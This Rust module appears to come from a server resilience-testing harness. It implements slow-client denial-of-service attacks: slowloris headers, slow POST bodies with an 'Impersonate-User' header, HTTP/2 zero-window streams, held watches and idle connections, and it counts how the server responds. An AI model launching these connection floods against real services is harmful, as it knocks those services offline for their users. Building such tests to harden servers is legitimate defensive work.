//! Clients that take their time: heads and bodies that come byte by byte, answers that nobody reads, connections and
//! watches that are merely there.

use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt;

use super::floods::drain;
use super::frames::{NO_WINDOW, greeting, request};
use super::{Attack, Attacker, MALLORY, MAPS, Outcome};
use crate::run::client::Connection;

/// Streams of a connection: as many as the server allows.
const STREAMS: u32 = 100;
const DRIP: Duration = Duration::from_millis(500);
/// Connections whose answers are counted.
const COUNTED: usize = 20;

/// Opens all connections, each with its beginning, and holds them until the time is over.
pub async fn run(attack: Attack, attacker: &Attacker, until: Instant) -> Option<Outcome> {
    let streams = |path: &str| {
        (0..STREAMS)
            .flat_map(|n| request(n, path, MALLORY))
            .collect::<Vec<u8>>()
    };
    let (http2, begin) = match attack {
        Attack::SlowHeads => (
            false,
            format!("GET {MAPS} HTTP/1.1\r\nHost: x\r\nX-Slow: ").into_bytes(),
        ),
        Attack::SlowBodies => (
            false,
            format!(
                "POST {MAPS} HTTP/1.1\r\nHost: x\r\nImpersonate-User: {MALLORY}\r\nContent-Type: application/json\r\n\
                 Content-Length: 3000000\r\n\r\n{{\"a\":\"{}",
                "x".repeat(60_000)
            )
            .into_bytes(),
        ),
        Attack::ClosedWindows => (true, [greeting(&NO_WINDOW), streams(MAPS)].concat()),
        Attack::Watches => (true, [greeting(&[]), streams(&format!("{MAPS}?watch=1"))].concat()),
        Attack::Idle => (true, greeting(&[])),
        _ => return None,
    };
    let drips = matches!(attack, Attack::SlowHeads | Attack::SlowBodies);
    let mut outcome = Outcome::default();
    let mut held: Vec<Connection> = Vec::new();
    for _ in 0..attack.connections() {
        if Instant::now() > until {
            break;
        }
        let opening = tokio::time::timeout(Duration::from_millis(500), attacker.open(http2)).await;
        let Ok(Some(mut connection)) = opening else {
            outcome.refused += 1;
            continue;
        };
        let _ = connection.write_all(&begin).await;
        outcome.opened += 1;
        held.push(connection);
    }
    attacker.note_opened();
    while Instant::now() < until {
        tokio::time::sleep(DRIP.min(until - Instant::now())).await;
        for connection in held.iter_mut().filter(|_| drips) {
            let writing = tokio::time::timeout(DRIP, connection.write_all(b"x")).await;
            outcome.ended += usize::from(matches!(writing, Ok(Err(_))));
        }
    }
    for connection in held.iter_mut().take(COUNTED) {
        let came = drain(connection, Duration::from_millis(50)).await;
        outcome.answered += heads_in(&came);
    }
    Some(outcome)
}

/// Frames with heads of answers.
fn heads_in(mut bytes: &[u8]) -> usize {
    let mut count = 0;
    while let Some(head) = bytes.first_chunk::<9>() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        count += usize::from(head[3] == super::frames::HEADERS);
        bytes = bytes.get(9 + length..).unwrap_or_default();
    }
    count
}
